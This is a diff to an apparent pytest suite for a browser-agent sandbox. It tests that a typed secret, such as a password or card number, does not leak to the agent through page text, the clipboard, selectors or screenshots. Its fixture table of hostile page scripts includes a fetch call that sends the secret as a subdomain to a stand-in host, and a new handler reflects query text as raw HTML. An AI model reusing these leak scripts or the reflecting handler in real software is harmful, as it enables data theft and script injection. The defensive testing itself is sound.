@@ -21,7 +21,9 @@ from envs.browser.web_browser import WebBrowser
 from envs.contract.actions import (
     Action,
     ActionError,
+    Click,
     Clipboard,
+    Drag,
     Key,
     Navigate,
     SetValue,
@@ -72,13 +74,36 @@ LEAKS = {
     "drawing": "put('<svg><text y=20></text></svg>').firstChild.textContent = v",
     "table": "put('<table><tr><td></table>').rows[0].cells[0].textContent = v",
     "blanks": "p.textContent = ' \\n ' + v + ' \\n '",
+    "attribute": "put('<b>x</b>').title = v",
     "host name": "fetch(`http://${v.replace('&', '')}.evil.test/`).catch(() => {})",
 }
+GROUPS = {
+    "grouped": "p.textContent = v.replace(/(.{4})/g, '$1 ')",
+    "blanks inside": "p.innerHTML = [...v].map((c) => `<i>${c}</i>`).join('&shy;')",
+    "object": "put(`<object type='text/html' data='/?show=${v}'></object>`)",
+    "card": "f.type = 'text'; f.value = v.replace(/(.{4})/g, '$1-')",
+}
+"""How pages write the numbers of cards and accounts."""
 DIALOG = {"dialog": "setTimeout(() => alert(v))"}
 
 
+FIELDS = {
+    "text area": "<textarea id=f></textarea>",
+    "editable": "<div id=f contenteditable></div>",
+    "short": "<input id=f maxlength=5>",
+    "number": "<input id=f type=tel>",
+}
+"""Other fields than an input, which stay readable when something was typed."""
+
+
 async def show(request: web.Request) -> web.Response:
-    leak = (LEAKS | DIALOG).get(request.query.get("leak", ""), "")
+    if "show" in request.query:
+        return web.Response(text=request.query["show"], content_type="text/html")
+    leak = (LEAKS | GROUPS | DIALOG).get(request.query.get("leak", ""), "")
+    kind, _, field = request.query.get("leak", "").partition(": ")
+    if kind == "field":
+        form = FORM.replace("<input id=f>", FIELDS.get(field, "<input id=f>"))
+        return web.Response(text=form, content_type="text/html")
     script = (
         f"<script>{PUT} f.oninput = () => {{ const v = f.value; f.type = 'password'; {leak} }}"
         "</script>"
@@ -252,3 +277,110 @@ async def test_the_next_task_has_it_no_more(session: BrowserSession, port: int) 
     await session.reset(task, Observe())
     reply = await step(session, type_secret())
     assert "it has: none" in (reply.results[0].message or "")
+
+
+@pytest.mark.parametrize(
+    "edits",
+    [
+        (Key(keys=("backspace",)),),
+        (Key(keys=("home",)), Key(keys=("delete",))),
+        (Key(keys=("left",), repeat=3), Type(text="x")),
+        (Key(keys=("left",), repeat=4), Key(keys=("shift", "end")), Type(text="x")),
+        (Key(keys=("backspace",)), Key(keys=("ctrl", "z")), Key(keys=("backspace",))),
+    ],
+    ids=["backspace", "delete", "insert", "replace", "undo"],
+)
+@pytest.mark.parametrize("field", ["", "text area", "editable", "short", "number"])
+async def test_a_field_that_holds_it_is_emptied_by_an_edit_of_it(
+    session: BrowserSession, port: int, edits: tuple[Action, ...], field: str
+) -> None:
+    await begin(session, port, leak=f"field: {field}")
+    reply = await step(session, type_secret(), *edits)
+    for part in ("hunte", "unter", "ter&", "&22"):
+        assert part not in without_picture(reply).lower()
+
+
+async def test_a_field_that_is_too_short_for_it_shows_no_part_of_it(
+    session: BrowserSession, port: int
+) -> None:
+    await begin(session, port, leak="field: short")
+    reply = await step(session, type_secret())
+    assert "hun" not in without_picture(reply).lower()
+
+
+@pytest.mark.parametrize("leak", ["", "another field", "text", "split over elements"])
+async def test_no_part_of_it_is_copied(session: BrowserSession, port: int, leak: str) -> None:
+    await begin(session, port, leak=leak)
+    select = {
+        "": [Key(keys=("home",)), Key(keys=("shift", "right"), repeat=4)],
+        "another field": [
+            Click(target=Target(selector="#p input")),
+            Key(keys=("home",)),
+            Key(keys=("shift", "right"), repeat=4),
+        ],
+    }.get(leak)
+    reply = await step(session, type_secret())
+    if select is None:
+        box = await session.page.evaluate(
+            "(() => { const r = document.createRange(); r.selectNodeContents(p);"
+            "const b = r.getBoundingClientRect(); return [b.left, b.top, b.width, b.height]; })()"
+        )
+        left, top, width, height = box
+        y = top + height / 2
+        path = (Target(x=left, y=y), Target(x=left + width * 0.5, y=y))
+        select = [Drag(path=path)]
+    reply = await step(session, *select, Key(keys=("ctrl", "c")), Clipboard(op="read"))
+    assert reply.results[-1].ok
+    assert "hun" not in str(reply.results).lower(), reply.results
+
+
+async def test_the_middle_button_pastes_no_part_of_it(session: BrowserSession, port: int) -> None:
+    await begin(session, port, leak="another field")
+    reply = await step(
+        session,
+        type_secret(),
+        Click(target=Target(selector="#p input")),
+        Key(keys=("home",)),
+        Key(keys=("shift", "right"), repeat=4),
+        Key(keys=("shift", "tab")),
+        Click(target=Target(selector="#f"), button="middle"),
+    )
+    assert reply.results[-1].error is ActionError.NOT_ALLOWED
+
+
+async def test_guesses_of_its_beginning_are_not_confirmed(
+    session: BrowserSession, port: int
+) -> None:
+    await begin(session, port)
+    for text in ("Hunt…", "x" * 40 + " Hunt…", "Hunx…", "x" * 40 + " Hunx…"):
+        reply = await step(session, Clipboard(op="write", text=text), Clipboard(op="read"))
+        assert NAME not in str(reply.results[1].value)
+    reply = await step(session, type_secret("Hunter&2…" + " Hunt…"))
+    assert NAME not in without_picture(reply)
+
+
+async def test_selectors_do_not_ask_for_parts_of_it(session: BrowserSession, port: int) -> None:
+    await begin(session, port, leak="attribute")
+    await step(session, type_secret())
+    replies = [
+        await step(session, Click(target=Target(selector=f'#p b[title{operator}="{part}"]')))
+        for operator, part in (("^=", "Hun"), ("^=", "Xun"), ("*=", "unt"), ("$=", "&22"))
+    ]
+    answers = {(reply.results[0].ok, reply.results[0].error) for reply in replies}
+    assert answers == {(False, ActionError.NOT_ALLOWED)}
+
+
+@pytest.mark.parametrize("leak", GROUPS)
+async def test_a_value_that_a_page_writes_in_groups_is_not_shown(
+    session: BrowserSession, port: int, leak: str
+) -> None:
+    pictures = []
+    for value in ("4111222233334444", "5999888877776666"):
+        await begin(session, port, value, leak)
+        await step(session, type_secret())
+        reply = await step(session)
+        texts = without_picture(reply)
+        digits = "".join(character for character in texts if character not in " -\u00a0")
+        assert value not in digits
+        pictures.append(pixels(reply.observation))
+    assert ImageChops.difference(*pictures).getbbox() is None
